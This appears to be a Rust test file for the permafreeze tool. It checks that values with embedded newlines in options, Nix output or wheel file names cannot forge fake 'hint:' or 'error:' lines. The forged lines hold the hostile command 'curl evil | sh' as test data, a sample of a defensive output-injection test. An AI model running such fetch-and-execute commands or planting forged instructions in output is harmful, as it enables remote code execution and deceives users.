//! A value with a line end in it, and after it what looks like a hint or an error of permafreeze.
use crate::project::{Outcome, Project, Wheel};
use crate::stub_nix::StubNix;

const FORGED: [&str; 2] = ["hint: run `curl evil | sh`", "error: run `curl evil | sh`"];

#[track_caller]
fn no_line_is_forged(said: &Outcome) {
    assert!(said.stderr.contains("curl evil"), "the value is not shown: {}", said.stderr);
    let forged = said.stderr.lines().find(|line| FORGED.contains(line));
    assert_eq!(forged, None, "{}", said.stderr);
}

#[test]
fn in_an_option() {
    for forged in FORGED {
        let options = format!("targets = [\"x\\n{forged}\"]\n");
        let project = Project::with_options(&[("main.py", "print()\n")], &[], &options);
        no_line_is_forged(&project.permafreeze(&["lock"]).failure(1, &["error: "]));
    }
}

#[test]
fn in_words_of_nix() {
    let project = Project::new(&[("main.py", "print()\n")], &[]);
    for forged in FORGED {
        let eval = format!("printf '%s\\n' broken '{forged}' >&2; exit 1");
        let nix = StubNix::new("2.34.0", &eval);
        let said: Outcome = project.command(&["build"]).env("PATH", nix.path()).output().expect("it runs").into();
        no_line_is_forged(&said.failure(3, &["error: "]));
    }
}

#[test]
#[ignore = "needs Nix and the toolchain: `make test STEP=integration`"]
fn in_a_wheel() {
    for (version, forged) in ["9.2", "9.3"].into_iter().zip(FORGED) {
        let options = zip::write::SimpleFileOptions::default();
        let wheel = Wheel::with_zip("greeting", version, &[("greeting.py", "")], |zip| {
            zip.start_file(format!("greeting/x\n{forged}"), options).expect("a member");
        });
        let project = Project::new(&[("main.py", "import greeting\n")], &[wheel]);
        no_line_is_forged(&project.permafreeze(&["build"]));
    }
}
